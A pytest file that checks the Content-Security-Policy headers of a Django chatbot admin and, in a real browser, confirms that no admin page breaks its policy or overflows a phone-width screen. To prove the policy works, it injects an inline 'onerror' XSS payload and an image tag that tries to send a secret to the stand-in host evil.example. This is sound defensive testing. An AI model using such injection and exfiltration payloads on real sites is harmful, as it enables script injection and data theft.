"""The Content-Security-Policy of each page, and a check in a real browser that no admin page violates it."""

import json
from collections.abc import Iterator
from contextlib import nullcontext

import pytest
from django.urls import reverse

from chatbots.models import Chatbot
from tests.support.api import Api
from tests.support.installation import Server, serving
from tests.support.providers.answers import CHAT_COMPLETION
from tests.support.upstream import embedding, running
from tests.support.widget.browser import needs_browser, open_admin

EVAL = "'unsafe-eval'"


def policy_of(response) -> dict[str, str]:
    directives = response.headers["Content-Security-Policy"].split(";")
    return dict(directive.strip().partition(" ")[::2] for directive in directives)


@pytest.mark.parametrize("path", ["/admin/login/", "/api/docs/", "/api/schema/", "/nothing/"])
def test_pages_load_scripts_and_resources_only_from_this_server(client, db, path):
    policy = policy_of(client.get(path))
    assert policy["default-src"] == "'none'"
    assert policy["script-src"].split() == (["'self'"] if "docs" in path else ["'self'", EVAL])
    for directive in ("base-uri", "frame-ancestors"):
        assert policy[directive] == "'none'"
    everywhere = " ".join(policy.values())
    assert "http" not in everywhere
    assert "*" not in everywhere


def test_chat_page_and_preview_have_their_own_policies(client, admin_client, db):
    bot = Chatbot.objects.create(
        name="Shop", status="published", enable_chat_page=True, embed_allowed_domains=["shop.example"]
    )
    page = policy_of(client.get(f"/chat/{bot.pk}/"))
    assert page["script-src"] == "'self'"
    assert "https://shop.example" in page["frame-ancestors"]
    preview = policy_of(admin_client.get(reverse("admin:chatbots_chatbot_preview", args=[bot.pk])))
    assert preview["frame-ancestors"] == "'self'"
    assert EVAL not in preview["script-src"]
    for policy in (page, preview):
        assert policy["require-trusted-types-for"] == "'script'"  # only the widget's own policy may make HTML of text
        assert policy["trusted-types"] == "puffer"


def test_api_responses_have_no_policy(db):
    for path in ("/logs", "/wp-json/aipkit/v1"):
        assert "content-security-policy" not in Api("").get(path).headers


def test_x_frame_options_forbids_framing_in_old_browsers(client, db):
    assert client.get("/admin/login/")["X-Frame-Options"] == "DENY"


# In a browser


# A row of each model with pages, with very long values.
DATA = """
from axes.models import AccessAttempt, AccessFailureLog
from django.contrib.admin.models import CHANGE, LogEntry
from django.contrib.auth import get_user_model
from django.contrib.contenttypes.models import ContentType
from chatbots.models import Chatbot, GoldenQuestion
from logs.models import Conversation, Message, ModelPrice, UsageEvent, Webhook, WebhookDelivery, new_uuid
from puffer.models import ApiKey
from vectorstores.models import Collection, Document, Upload
LONG = "an-id-without-a-blank-" * 4
owner = get_user_model().objects.create_superuser("owner", password="correct horse")
bot = Chatbot.objects.create(
    name="Who sells shoes " * 10, provider="openai", model=LONG, status="published", enable_chat_page=True
)
GoldenQuestion.objects.create(chatbot=bot, question="Shoes?", expected_facts=LONG)
talk = Conversation.objects.create(
    chatbot=bot, user=owner, message_count=2, identity=new_uuid(), has_error=True, has_unanswered=True, rating="down",
    last_message=LONG,
)
Message.objects.create(conversation=talk, role="user", content=LONG * 3)
table = "| " + " | ".join("column" for _ in range(20)) + " |"
code = "```" + chr(10) + LONG * 3 + chr(10) + "```"
Message.objects.create(
    conversation=talk, role="bot", provider="openai", model=LONG, passages=[{"title": LONG, "score": 0.5, "url": ""}],
    content=chr(10).join([table, table.replace("column", "---"), table, "", code]),
)
UsageEvent.objects.create(operation="completion", provider="openai", model=LONG, milliseconds=5, status=200)
ModelPrice.objects.create(provider="openai", model=LONG, input_price=1, output_price=1)
key = ApiKey(name=LONG, scopes=["chat", "logs", "vectors"], is_bound=True)
key.issue()
key.chatbots.add(bot)
hook = Webhook.objects.create(name=LONG, url=f"https://crm.example.com/{LONG}", events=["chatbot.fb_submitted"])
hook.chatbots.add(bot)
WebhookDelivery.objects.create(
    webhook=hook, event="chatbot.fb_submitted", event_id=new_uuid(), payload="{}", state="dead", last_error=LONG
)
faq = Collection.objects.create(
    store="local", name=LONG, dimension=3, embedding_provider="openai", embedding_model=LONG
)
Document.objects.create(collection=faq, parent_vector_id="a", title=LONG * 3, source=f"https://{LONG}", error=LONG * 2)
Upload.objects.create(
    kind="file", name=LONG, store="local", target=faq.name, embedding_provider="openai", embedding_model=LONG, size=1,
    state="dead", last_error=LONG,
)
LogEntry.objects.create(
    user=owner, content_type=ContentType.objects.get_for_model(bot), object_id=bot.pk, object_repr=str(bot),
    action_flag=CHANGE, change_message=LONG,
)
tried = {"username": "nobody", "ip_address": "203.0.113.9", "user_agent": LONG * 2, "path_info": "/", "http_accept": ""}
AccessFailureLog.objects.create(**tried)
AccessAttempt.objects.create(**tried, failures_since_start=3, get_data="", post_data="")
"""
# The URLs of every page without arguments, and of the pages of each model's first row.
PAGES = """
import json
from django.contrib import admin
from django.urls import NoReverseMatch, reverse
found = ["/admin/", "/admin/password_change/", "/api/docs/", "/chat/1/"]
for model, model_admin in admin.site._registry.items():
    row = model.objects.order_by("pk").first()
    for pattern in model_admin.get_urls():
        for arguments in ([], [row.pk] if row else None):
            if pattern.name and arguments is not None:
                try:
                    found.append(reverse(f"admin:{pattern.name}", args=arguments))
                except NoReverseMatch:
                    pass
print(json.dumps(sorted(set(found))))
"""
RECORD_VIOLATIONS = """
window.violations = [];
document.addEventListener("securitypolicyviolation", event => {
    window.violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
});
"""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with running() as upstream, serving(tmp_path_factory.mktemp("policy"), upstream) as server:
        upstream.pages["/v1/embeddings"] = embedding()
        upstream.serves("/v1/chat/completions", CHAT_COMPLETION)
        server.python(DATA)
        server.manage("rebuild_daily_totals")
        yield server


SHOW, RENEW, TEST = (f"button:has-text('{text}')" for text in ("Show", "Create new secret", "Test"))
NAVIGATE = (SHOW, RENEW, TEST)
PHONE = {"width": 390, "height": 844}
# Clicks that open or load further parts of these pages.
CLICKS = {
    "/admin/": ["text=unfold_more", "summary:has-text('By day')"],
    "/admin/?days=30": [SHOW],
    "/admin/chatbots/chatbot/": ["#result_list >> text=more_horiz"],
    "/admin/chatbots/chatbot/1/change/": ["text=New identity secret", RENEW],
    "/admin/chatbots/chatbot/1/golden-questions/": ["text=Add question"],
    "/admin/logs/conversation/": ["a:has-text('Filters')"],
    "/admin/logs/webhook/1/change/": ["text=Show the secret", "text=Send a test"],
    "/admin/providers/providerconfig/1/change/": ["text=Test connection", TEST],
    "/admin/puffer/apikey/1/change/": [".select2-selection"],
    "/admin/vectorstores/upload/add/": ["text=Questions and answers", "text=Add another question"],
}


def pages_of(server, page) -> list[str]:
    """Return the paths of the pages that answer GET with 200, not with a redirect or an error."""
    paths = json.loads(server.python(PAGES))
    assert len(paths) > 90
    answers = {path: page.request.get(server.url + path) for path in paths}
    return [path for path, answer in answers.items() if answer.status == 200 and is_html(answer)]


def is_html(answer) -> bool:
    return answer.headers["content-type"].startswith("text/html")  # others are downloads


@pytest.mark.slow
@needs_browser
def test_no_page_violates_its_policy_or_is_wider_than_a_phone(server, browser):
    page = browser.new_page()
    page.set_default_timeout(10_000)
    page.add_init_script(RECORD_VIOLATIONS)
    errors: list[str] = []
    page.on("console", lambda message: errors.append(message.text) if "Content Security" in message.text else None)
    page.on("pageerror", lambda error: errors.append(str(error)))
    violations: dict[str, list[str]] = {}

    def check(place: str) -> None:
        page.wait_for_timeout(30)  # violations of slower scripts are reported for the next page
        if found := [*errors, *(words for frame in page.frames for words in frame.evaluate("window.violations || []"))]:
            violations[place] = found
        errors.clear()

    page.goto(f"{server.url}/admin/login/")
    check("/admin/login/")
    open_admin(page, server)
    check("signing in")
    paths, widths = pages_of(server, page), {}
    window = page.viewport_size
    for path in paths:
        page.goto(server.url + path)
        if page.locator("#main").count():  # skip fragments of pages
            page.set_viewport_size(PHONE)
            widths[path] = page.evaluate("document.documentElement.scrollWidth")
            page.set_viewport_size(window)
        check(path)
    assert (len(paths) > 80, len(widths) > 60) == (True, True)
    for path, clicks in CLICKS.items():
        page.goto(server.url + path)
        for click in clicks:
            with page.expect_navigation() if click in NAVIGATE else nullcontext():
                page.locator(click).first.click()
            check(f"{path}, {click}")
    page.goto(f"{server.url}/admin/")
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hacked = 1\">')")
    page.wait_for_timeout(100)
    assert page.evaluate("window.hacked") is None  # inline scripts do not run
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=\"https://evil.example/?secret\">')")
    page.wait_for_function("window.violations.some((words) => words.includes('evil.example'))")
    page.close()
    assert violations == {}
    assert {path: width for path, width in widths.items() if width > PHONE["width"]} == {}
